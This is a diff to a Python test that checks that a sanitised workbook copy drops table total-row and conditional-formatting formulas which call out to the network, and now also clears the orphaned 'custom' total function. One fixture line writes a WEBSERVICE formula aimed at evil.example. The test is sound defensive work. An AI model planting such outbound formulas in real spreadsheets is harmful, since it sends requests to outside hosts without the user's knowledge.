@@ -1080,6 +1080,7 @@ def test_annotated_copy_drops_table_and_colour_scale_formulas_that_call_out(tmp_
     table.tableColumns[0].totalsRowFormula = TableFormula(
         attr_text='FILTERXML(WEBSERVICE("https://evil.example/"),"//a")'
     )
+    table.tableColumns[0].totalsRowFunction = "custom"  # as Excel writes a total row's own formula
     table.tableColumns[3].totalsRowFormula = TableFormula(attr_text="SUM(D2:D9)")  # stays
     ws.add_table(table)
     ws.conditional_formatting.add(
@@ -1104,6 +1105,7 @@ def test_annotated_copy_drops_table_and_colour_scale_formulas_that_call_out(tmp_
     assert b"WEBSERVICE" not in everything and b"evil.example" not in everything
     copy = load_workbook(out)["Facilities"]
     [kept] = copy.tables.values()
+    assert kept.tableColumns[0].totalsRowFunction is None, "no 'custom' total left without its formula"
     assert [c.totalsRowFormula.attr_text for c in kept.tableColumns if c.totalsRowFormula] == ["SUM(D2:D9)"]
     scales = [rule.colorScale.cfvo[0].val for cf in copy.conditional_formatting for rule in cf.rules]
     assert scales == ["MIN($D$2:$D$9)"]  # the focal point's own scale stays
